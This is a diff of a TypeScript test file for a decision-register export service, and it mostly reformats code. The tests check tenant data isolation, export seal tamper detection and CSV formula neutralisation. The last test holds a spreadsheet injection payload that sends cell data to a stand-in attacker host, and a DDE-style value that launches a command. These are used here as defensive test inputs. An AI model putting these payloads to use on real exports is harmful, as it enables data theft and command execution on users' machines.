@@ -26,12 +26,15 @@ afterAll(async () => {
 });
 
 const download = (token: string | null, authorityId: string, kind: string) => {
-  const req = request(h.app.getHttpServer()).get(`/exports/authorities/${authorityId}/decisions.${kind}`).buffer(true).parse((res, cb) => {
-    let text = '';
-    res.setEncoding('utf8');
-    res.on('data', (c: string) => (text += c));
-    res.on('end', () => cb(null, text));
-  });
+  const req = request(h.app.getHttpServer())
+    .get(`/exports/authorities/${authorityId}/decisions.${kind}`)
+    .buffer(true)
+    .parse((res, cb) => {
+      let text = '';
+      res.setEncoding('utf8');
+      res.on('data', (c: string) => (text += c));
+      res.on('end', () => cb(null, text));
+    });
   return token ? req.set('authorization', `Bearer ${token}`) : req;
 };
 
@@ -111,7 +114,14 @@ describe('export of the decision register', () => {
       eastbrook = h.demo.authorities.eastbrook;
       // the tenant's one reference-data stream now holds Eastbrook's pay point beside Northshire's LGPS rate
       const set = await h.gql(await h.signIn('admin@meridian.example'), 'mutation($i: SetLocalPayPointsInput!) { setLocalPayPoints(input: $i) { id } }', {
-        i: { authorityId: eastbrook, id: SECRET.id, effectiveFrom: '2026-04-01', source: SECRET.source, status: 'CONFIRMED', points: [{ scp: 60, pence: SECRET.pence }] },
+        i: {
+          authorityId: eastbrook,
+          id: SECRET.id,
+          effectiveFrom: '2026-04-01',
+          source: SECRET.source,
+          status: 'CONFIRMED',
+          points: [{ scp: 60, pence: SECRET.pence }],
+        },
       });
       expect(set.body.errors).toBeUndefined();
     });
@@ -128,7 +138,9 @@ describe('export of the decision register', () => {
     });
 
     it('are not in the decision history either', async () => {
-      const res = await h.gql(auditor, 'query($f: DecisionHistoryFilter!) { decisionHistory(filter: $f, first: 200) { total items { raw sentence } } }', { f: { authorityId: northshire, context: 'referenceData' } });
+      const res = await h.gql(auditor, 'query($f: DecisionHistoryFilter!) { decisionHistory(filter: $f, first: 200) { total items { raw sentence } } }', {
+        f: { authorityId: northshire, context: 'referenceData' },
+      });
       const items = res.body.data!.decisionHistory.items as { raw: string; sentence: string }[];
       expect(items.length).toBeGreaterThan(0);
       expect(leaks(items.map((i) => i.raw + i.sentence).join('\n'))).toEqual([]);
@@ -147,16 +159,28 @@ describe('export of the decision register', () => {
       // with the server's own key the seal can be made again: the chain through the redacted row still breaks
       const body = altered.slice(0, -2).join('\n') + '\n';
       const { kind: _kind, signature: _signature, ...seal } = JSON.parse(altered.at(-2)!) as ExportSeal & { kind: string };
-      const resealed = body + JSON.stringify({ kind: 'seal', ...signExportSeal({ ...seal, exportDigest: sha256OfBytes(body) }, h.ctx.config.auditKey.privateKey) }) + '\n';
-      expect(verifyExport(resealed, publicKey)).toMatchObject({ ok: false, problem: expect.stringMatching(/prevHash does not link|does not end where the checkpoint sealed it/) });
+      const resealed =
+        body + JSON.stringify({ kind: 'seal', ...signExportSeal({ ...seal, exportDigest: sha256OfBytes(body) }, h.ctx.config.auditKey.privateKey) }) + '\n';
+      expect(verifyExport(resealed, publicKey)).toMatchObject({
+        ok: false,
+        problem: expect.stringMatching(/prevHash does not link|does not end where the checkpoint sealed it/),
+      });
     });
   });
 
   it("neutralises a service director's formula in the CSV before it is sealed, and the export still verifies", async () => {
     const FORMULA = '=HYPERLINK("https://evil.example/?"&C2,"Details")';
     const director = await h.signIn('director.highways@northshire.example');
-    const programmeId = (await h.gql(auditor, '{ authorities { id programmes { id } } }')).body.data!.authorities.find((a: { id: string }) => a.id === northshire).programmes[0].id;
-    const deal = (await h.gql(director, 'query($p: ID!) { fteDeals(programmeId: $p) { id version terms { sourcePosts { postId fte } budget { financialYear pence } effectiveDate linkedChange rationale } } }', { p: programmeId })).body.data!.fteDeals[0];
+    const programmeId = (await h.gql(auditor, '{ authorities { id programmes { id } } }')).body.data!.authorities.find(
+      (a: { id: string }) => a.id === northshire,
+    ).programmes[0].id;
+    const deal = (
+      await h.gql(
+        director,
+        'query($p: ID!) { fteDeals(programmeId: $p) { id version terms { sourcePosts { postId fte } budget { financialYear pence } effectiveDate linkedChange rationale } } }',
+        { p: programmeId },
+      )
+    ).body.data!.fteDeals[0];
     const { sourcePosts, budget, effectiveDate, linkedChange } = deal.terms;
     const amended = await h.gql(director, 'mutation($i: DealOfferInput!) { proposeFteDealAmendment(input: $i) { id } }', {
       i: { dealId: deal.id, reason: FORMULA, terms: { sourcePosts, budget, effectiveDate, linkedChange, rationale: '@SUM(1+1)*cmd|calc' } },
